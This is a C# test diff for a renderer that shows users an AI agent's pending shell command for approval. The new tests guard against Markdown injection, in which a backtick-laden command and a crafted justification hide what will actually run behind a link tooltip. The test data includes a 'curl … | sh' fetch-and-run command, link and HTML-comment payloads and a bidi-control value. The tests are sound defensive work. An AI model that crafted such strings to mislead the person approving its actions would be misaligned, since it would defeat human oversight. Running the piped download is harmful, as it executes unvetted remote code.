@@ -39,7 +39,7 @@ public sealed class ApprovalMessageLayoutTests
                 "Will run: 3 commands: ls; curl; sh",
                 "Working directory: /work",
                 "Sandbox: workspace-write (bubblewrap)",
-                "Why this asks: `ls; curl x | sh`: needs a question",
+                "Why this asks: `` `ls; curl x | sh`: needs a question ``",
                 "Justification (from the agent): fetch the installer",
                 "Risk: HIGH (code_execution) — Runs a downloaded script. [from the risk model; advisory]",
             ],
@@ -172,6 +172,58 @@ public sealed class ApprovalMessageLayoutTests
         Assert.Contains("Why this asks: a" + escape + "b", message, StringComparison.Ordinal);
         Assert.Contains("Working directory: /work/a" + escape + "b", message, StringComparison.Ordinal);
         Assert.StartsWith("Allow the agent to run `echo a" + escape + "b` in `/work/a" + escape + "b`?\n", message, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void A_backtick_in_the_command_cannot_end_its_code_span_and_open_a_link_that_hides_the_servers_lines()
+    {
+        // Arrange: found by an attack. VS Code draws the message as Markdown. The backtick ended the command's code span,
+        // `[ls -la](x "` opened a link whose title ran to the `")` of the justification, and the question read "Allow
+        // the agent to run echo 'ls -la — list the workspace files": what will run, the sandbox and why it asks were in
+        // the link's tooltip.
+        var question = TestQuestions.About("echo '`[ls -la](x \"' ; curl -s http://127.0.0.1:9/x | sh ; echo '`'") with
+        {
+            Justification = "\") — list the workspace files",
+        };
+
+        // Act
+        var lines = ApprovalMessage.Render(question).Split('\n');
+
+        // Assert: the command is one code span whose fence is longer than any run of backticks inside it.
+        Assert.Equal("Allow the agent to run ``echo '`[ls -la](x \"' ; curl -s http://127.0.0.1:9/x | sh ; echo '`'`` in `/work`?", lines[0]);
+    }
+
+    [Theory]
+    [InlineData("[ls](x \"", "`[ls](x \"`")]
+    [InlineData("a `b` c", "``a `b` c``")]
+    [InlineData("`a``", "``` `a`` ```")]
+    [InlineData("&#x202E;", "`&#x202E;`")]
+    [InlineData("<!-- a", "`<!-- a`")]
+    [InlineData("x ](y)", "`x ](y)`")]
+    [InlineData("plain words (and more)", "plain words (and more)")]
+    public void Outside_text_that_Markdown_would_draw_is_a_code_span_nothing_inside_can_close(string hostile, string shown)
+    {
+        // Arrange: a link, HTML or a character reference (&#x202E; draws the bidi control the escaping removed) in any
+        // block of outside text; text without such characters is shown as it was.
+        var question = TestQuestions.About("true") with
+        {
+            WorkingDirectory = "/work/" + hostile,
+            Justification = hostile,
+            SandboxFailure = hostile,
+            Reasons = [hostile],
+            Risk = new RiskAssessment(hostile, RiskLevel.Low, "none"),
+        };
+
+        // Act
+        var message = ApprovalMessage.Render(question);
+
+        // Assert
+        Assert.Contains("\nJustification (from the agent): " + shown + "\n", message, StringComparison.Ordinal);
+        Assert.Contains("\nSandbox failure (the command's own output): " + shown + "\n", message, StringComparison.Ordinal);
+        Assert.Contains("\nWhy this asks: " + shown + "\n", message, StringComparison.Ordinal);
+        Assert.EndsWith("\nRisk: LOW (none) — " + shown + " [from the risk model; advisory]", message, StringComparison.Ordinal);
+        Assert.Contains("\nWorking directory: " + UntrustedText.InlineText("/work/" + hostile) + "\n", message, StringComparison.Ordinal);
+        Assert.Equal(shown, UntrustedText.InlineText(hostile));
     }
 
     [Fact]
